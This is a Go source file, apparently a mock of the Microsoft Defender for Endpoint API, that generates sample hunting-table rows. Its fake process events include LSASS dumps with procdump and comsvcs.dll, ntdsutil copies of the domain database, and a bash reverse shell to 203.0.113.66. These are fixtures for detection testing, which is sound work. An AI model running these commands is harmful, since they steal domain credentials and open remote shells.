func sampleProcessEvents(now time.Time) []map[string]any {
	row := func(ago time.Duration, machine int, file, folder, cmd, account, parent, parentCmd string, report int64) map[string]any {
		m := sampleMachines[machine]
		return map[string]any{
			"Timestamp":                    now.Add(-ago).Truncate(time.Millisecond),
			"DeviceId":                     m.id,
			"DeviceName":                   m.name + sampleDomain,
			"ActionType":                   "ProcessCreated",
			"FileName":                     file,
			"FolderPath":                   folder,
			"SHA256":                       hexOf(sha1Hex("sha256a/"+file)+sha1Hex("sha256b/"+file), 64),
			"ProcessId":                    int64(4000 + report%1000),
			"ProcessCommandLine":           cmd,
			"AccountDomain":                "corp",
			"AccountName":                  account,
			"InitiatingProcessFileName":    parent,
			"InitiatingProcessCommandLine": parentCmd,
			"InitiatingProcessAccountName": account,
			"ReportId":                     report,
		}
	}
	return []map[string]any{
		row(46*time.Minute+30*time.Second, 0, "procdump64.exe", `C:\Users\jdoe\AppData\Local\Temp\procdump64.exe`,
			`procdump64.exe -accepteula -ma lsass.exe C:\Users\jdoe\AppData\Local\Temp\lsass.dmp`, "jdoe", "cmd.exe", `cmd.exe /c C:\Users\jdoe\AppData\Local\Temp\procdump64.exe -accepteula -ma lsass.exe`, 10011),
		row(45*time.Minute+20*time.Second, 1, "ntdsutil.exe", `C:\Windows\System32\ntdsutil.exe`,
			`ntdsutil.exe "ac i ntds" "ifm" "create full c:\temp\ntds_dump" q q`, "adm-kwalker", "cmd.exe", "cmd.exe", 10012),
		row(39*time.Minute, 4, "pd.exe", `C:\ProgramData\pd.exe`,
			`pd.exe -accepteula -ma lsass.exe C:\ProgramData\l.dmp`, "adm-kwalker", "powershell.exe", "powershell.exe -nop", 10013),
		row(38*time.Minute, 4, "rundll32.exe", `C:\Windows\System32\rundll32.exe`,
			`rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\temp\lsass.dmp full`, "adm-kwalker", "cmd.exe", "cmd.exe", 10014),
		row(72*time.Hour, 1, "ntdsutil.exe", `C:\Windows\System32\ntdsutil.exe`,
			`ntdsutil.exe "ac i ntds" "ifm" "create full C:\ProgramData\Backup\ntds" q q`, "adm-kwalker", "cmd.exe", "cmd.exe", 10015),
		row(44*time.Minute+10*time.Second, 2, "bash", "/usr/bin/bash",
			"bash -i >& /dev/tcp/203.0.113.66/4444 0>&1", "www-data", "java", "java -jar /opt/app/app.jar", 10016),
		row(30*time.Minute, 3, "powershell.exe", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
			"powershell.exe -File C:\\Scripts\\inventory.ps1", "hrbp", "explorer.exe", "explorer.exe", 10017),
		row(20*time.Minute, 5, "cmd.exe", `C:\Windows\System32\cmd.exe`,
			"cmd.exe /c ipconfig /all", "mlee", "explorer.exe", "explorer.exe", 10018),
		row(12*time.Minute, 7, "sqlservr.exe", `C:\Program Files\Microsoft SQL Server\MSSQL16\MSSQL\Binn\sqlservr.exe`,
			"sqlservr.exe -sMSSQLSERVER", "svc-sql", "services.exe", "services.exe", 10019),
		row(40*24*time.Hour, 13, "procdump.exe", `C:\Tools\procdump.exe`,
			`procdump.exe -accepteula -ma lsass.exe C:\Tools\old.dmp`, "mlee", "cmd.exe", "cmd.exe", 10020),
	}
}

// huntDetectionSource maps MDE API detectionSource values to the names the
// hunting tables use since January 2021.
func huntDetectionSource(s string) string {
	switch s {
	case "WindowsDefenderAtp":
		return "EDR"
	case "WindowsDefenderAv":
		return "Antivirus"
	case "WindowsDefenderSmartScreen":
		return "SmartScreen"
	case "CustomDetection":
		return "Custom detection"
	case "AutomatedInvestigation":
		return "Automated investigation"
	case "CustomerTI":
		return "Custom TI"
	}
	return s
}

func alertInfoRows(alerts []mde.Alert) []map[string]any {
	var rows []map[string]any
	for _, a := range alerts {
		if a.AlertCreationTime == nil {
			continue
		}
		rows = append(rows, map[string]any{
			"Timestamp":        *a.AlertCreationTime,
			"AlertId":          a.ID,
			"Title":            a.Title,
			"Category":         a.Category,
			"Severity":         a.Severity,
			"ServiceSource":    "Microsoft Defender for Endpoint",
			"DetectionSource":  huntDetectionSource(a.DetectionSource),
			"AttackTechniques": strings.Join(a.MitreTechniques, ", "),
		})
	}
	return rows
}

func deviceInfoRows(ms []mde.Machine, now time.Time) []map[string]any {
	var rows []map[string]any
	for _, m := range ms {
		rows = append(rows, map[string]any{
			"Timestamp":    now.Add(-15 * time.Minute),
			"DeviceId":     m.ID,
			"DeviceName":   m.ComputerDNSName,
			"OSPlatform":   m.OSPlatform,
			"OSVersion":    m.Version,
			"MachineGroup": mde.Str(m.RbacGroupName),
			"PublicIP":     m.LastExternalIPAddress,
			"DeviceCategory": func() string {
				if strings.HasPrefix(m.OSPlatform, "WindowsServer") || m.OSPlatform == "Linux" {
					return "Server"
				}
				return "Endpoint"
			}(),
		})
	}
	return rows
}

// machineFromAlert synthesizes the machine an alert names (LoadAlertsFile,
// AddAlert with an unknown machine id).
func machineFromAlert(a mde.Alert) mde.Machine {
	name := a.ComputerDNSName
	if name == "" {
		name = strings.ToLower(a.MachineID[:8]) + sampleDomain
	}
	seen := a.AlertCreationTime
	return mde.Machine{
		ID:               a.MachineID,
		ComputerDNSName:  name,
		FirstSeen:        seen,
		LastSeen:         seen,
		OSPlatform:       "Windows10",
		OSArchitecture:   "64-bit",
		HealthStatus:     "Active",
		OnboardingStatus: "Onboarded",
		DeviceValue:      ptr("Normal"),
		RbacGroupName:    a.RbacGroupName,
		RiskScore:        ptr("None"),
		ExposureLevel:    ptr("None"),
		MachineTags:      []string{},
	}
}

// --- small helpers ---

func ptr[T any](v T) *T { return &v }

func ptrT(t time.Time) *time.Time { return &t }

func sha1Hex(s string) string {
	sum := sha1.Sum([]byte(s)) // #nosec G401 -- deterministic ids only
	return fmt.Sprintf("%x", sum[:])
}

func hexOf(s string, n int) string {
	for len(s) < n {
		s += s
	}
	return s[:n]
}

func mustHex(s string) []byte {
	b := make([]byte, len(s)/2)
	for i := range b {
		var v byte
		_, _ = fmt.Sscanf(s[2*i:2*i+2], "%02x", &v)
		b[i] = v
	}
	return b
}

// uuidFrom derives a stable GUID from a name.
func uuidFrom(name string) string {
	h := sha1Hex("uuid/" + name)
	return h[0:8] + "-" + h[8:12] + "-5" + h[13:16] + "-a" + h[17:20] + "-" + h[20:32]
}
